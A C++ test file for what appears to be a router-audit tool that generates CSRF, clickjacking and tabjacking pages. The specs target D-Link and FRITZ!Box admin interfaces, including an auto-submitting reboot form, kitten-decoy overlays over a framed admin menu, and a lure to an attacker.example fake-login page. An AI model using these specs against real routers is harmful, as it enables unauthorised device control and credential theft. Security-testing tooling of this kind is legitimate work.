#include "routeraudit/html.h"
#include "routeraudit/payloadgen.h"

#include "support.h"

#include <doctest.h>

using namespace routeraudit;
using testsupport::check_redress_page;
using testsupport::check_tabjack_pages;
using testsupport::decode_js_literal;
using testsupport::metachar_corpus;

namespace {

CsrfSpec dlink_reboot() {
    return {"http://192.168.0.1/tools_system.htm", "POST", {{"page", "tools_system"}, {"submitType", "3"}}};
}

RedressSpec fritz_redress() {
    RedressSpec spec;
    spec.frame_url = "http://192.168.178.1/cgi-bin/webcm?getpage=../html/de/menus/menu2.html";
    spec.drop_value = "foobar";
    spec.decoy_items = {{"Tired", "kitten1.jpg"}, {"Curious", "kitten2.jpg"}, {"Sleepy", "kitten3.jpg"}};
    spec.overlay_boxes = {{35, 300, 120, 30}, {85, 300, 120, 30}, {135, 300, 120, 30}};
    spec.button_overlay = {195, 425, "More kittens"};
    return spec;
}

TabjackSpec tabjack() { return {"http://192.168.178.1/", "routeradmin", "http://attacker.example/fake-login"}; }

}  // namespace

TEST_CASE("csrf reboot page parses back to the same form") {
    std::string page = gen_csrf_page(dlink_reboot());
    CHECK(html::is_well_formed(page));
    CHECK(page.find("<body onload=\"document.forms[0].submit()\">") != std::string::npos);
    auto forms = html::parse_forms(page);
    REQUIRE(forms.size() == 1);
    CHECK(forms[0].action == "http://192.168.0.1/tools_system.htm");
    CHECK(forms[0].method == "POST");
    REQUIRE(forms[0].inputs.size() == 2);
    CHECK(forms[0].inputs[0].type == "hidden");
    CHECK(forms[0].inputs[0].name == "page");
    CHECK(forms[0].inputs[0].value == "tools_system");
    CHECK(forms[0].inputs[1].name == "submitType");
    CHECK(forms[0].inputs[1].value == "3");
}

TEST_CASE("csrf page round-trips hostile field values") {
    auto corpus = metachar_corpus(50);
    CsrfSpec spec{"http://192.168.0.1/apply.cgi?x=1&y=2", "POST", {}};
    for (std::size_t i = 0; i < corpus.size(); ++i) spec.fields.emplace_back("f" + std::to_string(i) + corpus[i], corpus[i]);
    std::string page = gen_csrf_page(spec);
    CHECK(html::is_well_formed(page));
    auto forms = html::parse_forms(page);
    REQUIRE(forms.size() == 1);
    CHECK(forms[0].action == spec.action_url);
    REQUIRE(forms[0].inputs.size() == spec.fields.size());
    for (std::size_t i = 0; i < spec.fields.size(); ++i) {
        CHECK(forms[0].inputs[i].name == spec.fields[i].first);
        CHECK(forms[0].inputs[i].value == spec.fields[i].second);
    }
}

TEST_CASE("csrf spec errors") {
    auto spec = dlink_reboot();
    spec.method = "PUT";
    CHECK_THROWS_AS(gen_csrf_page(spec), SpecError);
    spec = dlink_reboot();
    spec.action_url = "ftp://192.168.0.1/";
    CHECK_THROWS_AS(gen_csrf_page(spec), SpecError);
    spec = dlink_reboot();
    spec.fields.emplace_back("", "x");
    CHECK_THROWS_AS(gen_csrf_page(spec), SpecError);
}

TEST_CASE("redress page structure") {
    auto spec = fritz_redress();
    std::string page = gen_uiredress_page(spec);
    auto checks = check_redress_page(page, spec);
    CHECK_MESSAGE(checks.overlays.ok, checks.overlays.problem);
    CHECK_MESSAGE(checks.decoys.ok, checks.decoys.problem);
    CHECK_MESSAGE(checks.button.ok, checks.button.problem);
    CHECK_MESSAGE(checks.iframe.ok, checks.iframe.problem);
    CHECK_MESSAGE(checks.no_breakout.ok, checks.no_breakout.problem);
    CHECK(page.find("div, button { position:absolute; z-index:1; border:1px solid; pointer-events:none }") !=
          std::string::npos);
    CHECK(page.find("<button style=\"top:195px; left:425px\">More kittens</button>") != std::string::npos);
}

TEST_CASE("redress spec errors") {
    auto spec = fritz_redress();
    spec.decoy_items.clear();
    CHECK_THROWS_AS(gen_uiredress_page(spec), SpecError);
    spec = fritz_redress();
    spec.overlay_boxes.clear();
    CHECK_THROWS_AS(gen_uiredress_page(spec), SpecError);
    spec = fritz_redress();
    spec.overlay_boxes[1].top = -1;
    CHECK_THROWS_AS(gen_uiredress_page(spec), SpecError);
    spec = fritz_redress();
    spec.drop_value = "\xff\xfe";
    CHECK_THROWS_AS(gen_uiredress_page(spec), SpecError);
    spec = fritz_redress();
    spec.frame_url = "not a url";
    CHECK_THROWS_AS(gen_uiredress_page(spec), SpecError);
}

TEST_CASE("tabjack pages") {
    auto spec = tabjack();
    auto pages = gen_tabjack_pages(spec);
    auto checks = check_tabjack_pages(pages, spec);
    CHECK_MESSAGE(checks.lure.ok, checks.lure.problem);
    CHECK_MESSAGE(checks.rebind.ok, checks.rebind.problem);

    spec.window_name = "";
    CHECK_THROWS_AS(gen_tabjack_pages(spec), SpecError);
    spec.window_name = "_blank";
    CHECK_THROWS_AS(gen_tabjack_pages(spec), SpecError);
    spec = tabjack();
    spec.evil_url = "/relative";
    CHECK_THROWS_AS(gen_tabjack_pages(spec), SpecError);
}

TEST_CASE("js string escape decodes back") {
    for (const auto& text : metachar_corpus(100)) {
        std::string escaped = js_string_escape(text);
        CHECK(escaped.find_first_of("'\"<>&\n\r") == std::string::npos);
        CHECK(decode_js_literal(escaped) == text);
    }
    CHECK(js_string_escape("a'b") == "a\\u0027b");
    CHECK(js_string_escape("\U0001F431") == "\\uD83D\\uDC31");
}

TEST_CASE("spec json loaders") {
    auto csrf = csrf_spec_from_json(
        R"({"action_url":"http://192.168.0.1/tools_system.htm","fields":[["page","tools_system"],["submitType","3"]]})");
    CHECK(csrf.method == "POST");
    CHECK(gen_csrf_page(csrf) == gen_csrf_page(dlink_reboot()));

    auto redress = redress_spec_from_json(R"({
        "frame_url":"http://192.168.178.1/","drop_value":"foobar",
        "decoy_items":[{"label":"Tired","image_ref":"k.jpg"}],
        "overlay_boxes":[{"top":35,"left":300,"width":10,"height":10}],
        "button_overlay":{"top":195,"left":425,"label":"More kittens"}})");
    CHECK(redress.decoy_items.size() == 1);
    CHECK(check_redress_page(gen_uiredress_page(redress), redress).all());

    auto tj = tabjack_spec_from_json(R"({"admin_url":"http://192.168.0.1/","window_name":"w","evil_url":"http://e.example/"})");
    CHECK(tj.window_name == "w");

    CHECK_THROWS_AS(csrf_spec_from_json("{"), SpecError);
    CHECK_THROWS_AS(csrf_spec_from_json("[]"), SpecError);
    CHECK_THROWS_AS(tabjack_spec_from_json(R"({"admin_url":"http://192.168.0.1/"})"), SpecError);
    CHECK_THROWS_AS(redress_spec_from_json(R"({"frame_url":1})"), SpecError);
}

TEST_CASE("hostile specs never break out of their context") {
    auto corpus = metachar_corpus(200, false, 7);
    auto urls = metachar_corpus(200, true, 8);
    int failures = 0;
    for (std::size_t i = 0; i < corpus.size(); ++i) {
        auto spec = fritz_redress();
        spec.drop_value = corpus[i];
        spec.decoy_items[0].label = corpus[(i + 1) % corpus.size()];
        spec.decoy_items[1].image_ref = corpus[(i + 2) % corpus.size()];
        spec.button_overlay.label = corpus[(i + 3) % corpus.size()];
        spec.frame_url = "http://192.168.178.1/x?q=" + urls[i];
        auto redress = check_redress_page(gen_uiredress_page(spec), spec);

        TabjackSpec tj{"http://192.168.0.1/?a=" + urls[i], "w" + corpus[i], "http://evil.example/?p=" + urls[(i + 5) % urls.size()]};
        auto tab = check_tabjack_pages(gen_tabjack_pages(tj), tj);
        if (!redress.all() || !tab.all()) {
            ++failures;
            MESSAGE("case " << i << ": " << redress.overlays.problem << redress.decoys.problem << redress.button.problem
                            << redress.iframe.problem << redress.no_breakout.problem << tab.lure.problem
                            << tab.rebind.problem);
        }
    }
    CHECK(failures == 0);
}
